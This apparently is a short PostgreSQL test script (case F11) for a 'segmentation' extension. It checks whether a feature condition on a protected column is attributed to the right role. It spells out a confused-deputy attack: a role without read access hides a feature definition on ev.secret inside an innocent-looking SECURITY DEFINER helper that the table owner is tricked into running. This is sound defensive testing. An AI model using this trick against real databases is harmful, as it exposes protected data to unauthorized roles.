-- F11: defined_by = session_user. r17_admin2 (no SELECT on ev.secret) wraps
-- define_feature in a SECURITY DEFINER function; any role that may read
-- secret and calls it (here the table's owner, who is no segmentation role
-- at all) has the condition on secret attributed to itself.
\c - postgres
CREATE SCHEMA r17 AUTHORIZATION r17_admin2;
\c - r17_admin2
SELECT segmentation.define_feature('leak', ARRAY['buy'], $c$secret LIKE 's1%'$c$);   -- refused
CREATE FUNCTION r17.report_helper() RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog AS $$
BEGIN
	PERFORM segmentation.define_feature('leak', ARRAY['buy'], $c$secret LIKE 's1%'$c$);
	RETURN 'report ready';
END $$;
GRANT USAGE ON SCHEMA r17 TO PUBLIC;
\c - r17_owner
SELECT r17.report_helper();   -- the victim runs an innocent-looking helper
\c - r17_admin2
SELECT name, condition, defined_by FROM segmentation.features;
SELECT segmentation.refresh(as_of => '2024-05-02') IS NOT NULL AS refreshed;
\i counts.sql
